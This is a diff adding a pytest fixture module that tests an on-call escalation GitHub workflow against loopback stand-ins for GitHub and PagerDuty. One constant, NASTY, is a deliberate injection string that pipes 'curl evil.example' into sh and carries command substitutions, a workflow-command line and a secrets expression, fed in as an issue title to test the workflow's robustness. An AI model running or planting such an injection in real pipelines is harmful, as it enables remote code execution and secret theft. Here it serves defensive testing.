@@ -1,0 +1,253 @@
+"""A repository with what is provisioned, GitHub and PagerDuty on loopback, and a runner of the workflows' steps."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+import yaml
+from oncall_sandbox import address
+
+from oncall import load
+from templates import render
+from tests.packages.sandbox.accounts.running import NO_TLS
+from tests.templates.programs import program
+
+ROOT = Path(__file__).parents[3]
+WING = ROOT / "tests" / "oncall" / "wing.yaml"
+REPOSITORY = "winglang/wing"
+SERVICE = "https://app.pagerduty.com/service-directory/PUSERS1"
+NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
+TOKEN = "token-of-the-job"
+PERMISSIONS = {"ada": "admin", "mai": "write", "tri": "read"}
+"""What the API says of who may admin, maintain (or write), and triage."""
+NASTY = '"; curl evil.example | sh #\n::error::$(id) ${{ secrets.X }} `id` <!-- on-call 9 --> @everybody'
+
+
+def _layered(start: str, turn: int, *people: object) -> str:
+    layer = {
+        "rotation": "Israel",
+        "start": start,
+        "end": None,
+        "turn": turn,
+        "people": people,
+        "shift": 43200,
+    }
+    role = {"layers": [layer], "exceptions": []}
+    return json.dumps({"acknowledge_minutes": 10, "duties": {"primary": role, "secondary": role}})
+
+
+def provisioned(folder: Path) -> Path:
+    """A checkout of a repository that has everything of Wing's own operation."""
+    operation = load(WING)
+    files = {
+        **render.files(operation, REPOSITORY),
+        render.MEANINGS: render.meanings(operation, SERVICE),
+        render.ON_CALL: render.on_call(operation),
+    }
+    for path, content in files.items():
+        (folder / path).parent.mkdir(parents=True, exist_ok=True)
+        (folder / path).write_text(content, encoding="utf-8")
+    return folder
+
+
+UNREADABLE = [
+    None,
+    "",
+    "[]",
+    "<<<<<<< HEAD\n{}\n",
+    '{"acknowledge_minutes": 10}',
+    '{"acknowledge_minutes": 10, "duties": {"primary": {"layers": [], "exceptions": []}, "secondary": null}}',
+    _layered("tomorrow", 604800, "eladb"),
+    _layered("2026-11-23T03:00Z", 0, "eladb"),
+    _layered("2026-11-23T03:00Z", 604800),
+    _layered("2026-11-23T03:00Z", 604800, "eladb", 7),
+]
+"""What cannot be the data of who is on call; None is no file."""
+
+
+def unreadable(world: World, content: str | None) -> None:
+    """Put ``content`` in the place of the repository's data."""
+    path = world.folder / render.ON_CALL
+    path.unlink()
+    if content is not None:
+        path.write_text(content, encoding="utf-8")
+
+
+@dataclass
+class Ran:
+    """What a run printed and how it ended; ``waits`` are the seconds before each repetition."""
+
+    status: int
+    said: str
+    waits: list[float] = field(default_factory=list)
+
+
+class World:
+    """The accounts and the repository; issue 1 is Wing's only one."""
+
+    def __init__(self, folder: Path, url: str) -> None:
+        self.folder = folder
+        self.url = url
+        self.client = httpx.Client(headers={"Authorization": "Bearer a-made-up-token"}, verify=NO_TLS)
+        self.runs = 0
+        self.control("reset")
+        repositories = self.control("documents", method="GET")["github/repositories"]
+        known = {**repositories[REPOSITORY], "collaborators": PERMISSIONS}
+        self.control("put", {"kind": "github/repositories", "id": REPOSITORY, "body": known})
+        self.control("clock", {"now": NOW.isoformat()})
+        self.key = self._service()
+        self.issue = self.ask(
+            "POST", f"api.github.com/repos/{REPOSITORY}/issues", {"title": NASTY, "body": NASTY}
+        )
+
+    def control(self, name: str, body: Any = None, method: str = "POST") -> Any:
+        return self.client.request(method, f"{self.url}/_sandbox/{name}", json=body).json()
+
+    def ask(self, method: str, path: str, body: Any = None) -> Any:
+        answer = self.client.request(method, f"{self.url}/{path}", json=body)
+        assert answer.is_success, answer.text
+        return answer.json()
+
+    def event(
+        self, action: str, sender: str = "mai", *, label: str | None = None, kind: str = "User"
+    ) -> dict[str, Any]:
+        """The payload of an event, after what it tells of has happened to the issue."""
+        labels = [one["name"] for one in self.issue["labels"]]
+        if action == "labeled" and label not in labels:
+            labels.append(str(label))
+        if action == "unlabeled":
+            labels.remove(str(label))
+        state = {"closed": "closed", "reopened": "open"}.get(action, self.issue["state"])
+        where = f"api.github.com/repos/{REPOSITORY}/issues/1"
+        self.issue = self.ask("PATCH", where, {"labels": labels, "state": state})
+        return {
+            "action": action,
+            "issue": {**self.issue, "state_reason": None, "user": {"login": "stranger", "type": "User"}},
+            "repository": {"id": 1, "full_name": REPOSITORY, "default_branch": "main"},
+            "organization": {"login": "winglang"},
+            "sender": {"login": sender, "type": kind},
+            **({"label": {"name": label, "color": "b60205", "default": False}} if label else {}),
+        }
+
+    def step(self, event: dict[str, Any], workflow: str = "escalate") -> Ran | None:
+        """Run the workflow's own command as the runner does; None where the workflow does not ask for the event."""
+        read: dict[Any, Any] = yaml.safe_load(
+            (self.folder / ".github" / "workflows" / f"{workflow}.yml").read_text(encoding="utf-8")
+        )
+        if event["action"] not in read[True]["issues"]["types"]:
+            return None
+        (job,) = read["jobs"].values()
+        checkout, step = job["steps"]
+        assert checkout["with"] == {"persist-credentials": False, "sparse-checkout": ".github/on-call"}
+        expressions = {"${{ github.token }}": TOKEN, "${{ secrets.PAGERDUTY_EVENTS_KEY }}": self.key}
+        environment = self.environment(event) | {
+            "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
+            **{name: expressions[value] for name, value in step["env"].items()},
+        }
+        done = subprocess.run(
+            ["bash", "--noprofile", "--norc", "-e", "-c", step["run"]],
+            cwd=self.folder,
+            env=environment,
+            capture_output=True,
+            text=True,
+            check=False,
+            timeout=60,
+        )
+        return Ran(done.returncode, done.stdout + done.stderr)
+
+    def run(self, event: dict[str, Any], capsys: pytest.CaptureFixture[str], **more: str) -> Ran:
+        """Run the step's program in this process, where waiting takes no time."""
+        environment = {
+            **self.environment(event), "GITHUB_TOKEN": TOKEN, "PAGERDUTY_EVENTS_KEY": self.key, **more
+        }  # fmt: skip
+        waits: list[float] = []
+        with program(self.folder, "escalate") as escalate:
+            status = escalate.main(environment, NOW, waits.append)
+        return Ran(status, capsys.readouterr().out, waits)
+
+    def environment(self, event: dict[str, Any]) -> dict[str, str]:
+        """What the runner tells every step."""
+        self.runs += 1
+        path = self.folder / "event.json"
+        path.write_text(json.dumps(event), encoding="utf-8")
+        return {
+            "GITHUB_EVENT_PATH": str(path),
+            "GITHUB_API_URL": f"{self.url}/api.github.com",
+            "GITHUB_REPOSITORY": REPOSITORY,
+            "GITHUB_REF_NAME": "main",
+            "GITHUB_RUN_ID": str(self.runs),
+            "PAGERDUTY_EVENTS_URL": f"{self.url}/events.pagerduty.com",
+        }
+
+    def incidents(self) -> list[tuple[str, str, str | None]]:
+        """Status, urgency and priority of each incident."""
+        found = self.ask("GET", "api.pagerduty.com/incidents?date_range=all")["incidents"]
+        return [(one["status"], one["urgency"], (one["priority"] or {}).get("name")) for one in found]
+
+    def events(self) -> list[str]:
+        """What the Events API has taken, in order."""
+        log = self.control("log", method="GET")
+        return [
+            one["method"] for one in log if one["host"] == "events.pagerduty.com" and one["status"] == 202
+        ]
+
+    def comments(self) -> list[str]:
+        found = self.ask("GET", f"api.github.com/repos/{REPOSITORY}/issues/1/comments")
+        return [str(one["body"]) for one in found]
+
+    def _service(self) -> str:
+        pagerduty = "api.pagerduty.com"
+        user = {"user": {"type": "user", "name": "Mai", "email": "mai@wing.example"}}
+        someone = self.ask("POST", f"{pagerduty}/users", user)["user"]["id"]
+        rules = [{"escalation_delay_in_minutes": 10, "targets": [{"id": someone, "type": "user_reference"}]}]
+        policy = {"escalation_policy": {"name": "Wing", "num_loops": 6, "escalation_rules": rules}}
+        policy = self.ask("POST", f"{pagerduty}/escalation_policies", policy)["escalation_policy"]
+        made = {
+            "name": "Users",
+            "escalation_policy": {"id": policy["id"]},
+            "incident_urgency_rule": {"type": "constant", "urgency": "severity_based"},
+        }
+        service = self.ask("POST", f"{pagerduty}/services", {"service": made})["service"]["id"]
+        rules = [
+            {
+                "conditions": [{"expression": f"event.custom_details.severity matches 'P{number}'"}],
+                "actions": {"priority": f"PRI{number}"},
+            }
+            for number in range(3)
+        ]
+        path = {"sets": [{"id": "start", "rules": rules}], "catch_all": {"actions": {}}}
+        where = f"{pagerduty}/event_orchestrations/services/{service}"
+        self.ask("PUT", where, {"orchestration_path": path})
+        self.ask("PUT", f"{where}/active", {"active": True})
+        way = {"integration": {"name": "Events", "type": "events_api_v2_inbound_integration"}}
+        answer = self.ask("POST", f"{pagerduty}/services/{service}/integrations", way)
+        return str(answer["integration"]["integration_key"])
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """The address of accounts of their own."""
+    place = tmp_path_factory.mktemp("accounts")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("SANDBOX_DIR", str(place))
+        patch.setenv("SANDBOX_ROTATION", str(WING))
+        url = address.ensure()
+        yield url
+        address.control("POST", "stop", url=url)
+
+
+@pytest.fixture
+def world(server: str, tmp_path: Path) -> Iterator[World]:
+    made = World(provisioned(tmp_path), server)
+    yield made
+    made.client.close()
